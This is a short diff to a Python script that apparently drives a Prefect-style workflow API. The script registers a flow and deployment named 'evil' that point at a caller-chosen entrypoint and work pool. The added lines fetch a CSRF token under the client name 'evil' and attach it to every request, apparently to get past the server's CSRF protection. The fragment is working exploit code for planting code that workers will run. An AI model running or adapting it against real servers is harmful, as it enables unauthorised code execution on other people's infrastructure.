@@ -29,7 +29,9 @@ import json, os, sys, urllib.request
 api, entrypoint, pool = sys.argv[1:]
 assert os.geteuid() != 0
 def post(path, body):
-    request = urllib.request.Request(api + path, json.dumps(body).encode(), {"Content-Type": "application/json"})
+    token = json.load(urllib.request.urlopen(api + "/csrf-token?client=evil"))["token"]
+    headers = {"Content-Type": "application/json", "Prefect-Csrf-Client": "evil", "Prefect-Csrf-Token": token}
+    request = urllib.request.Request(api + path, json.dumps(body).encode(), headers)
     return json.load(urllib.request.urlopen(request))["id"]
 flow = post("/flows/", {"name": "evil"})
 named = {"name": "evil", "flow_id": flow, "entrypoint": entrypoint, "work_pool_name": pool}
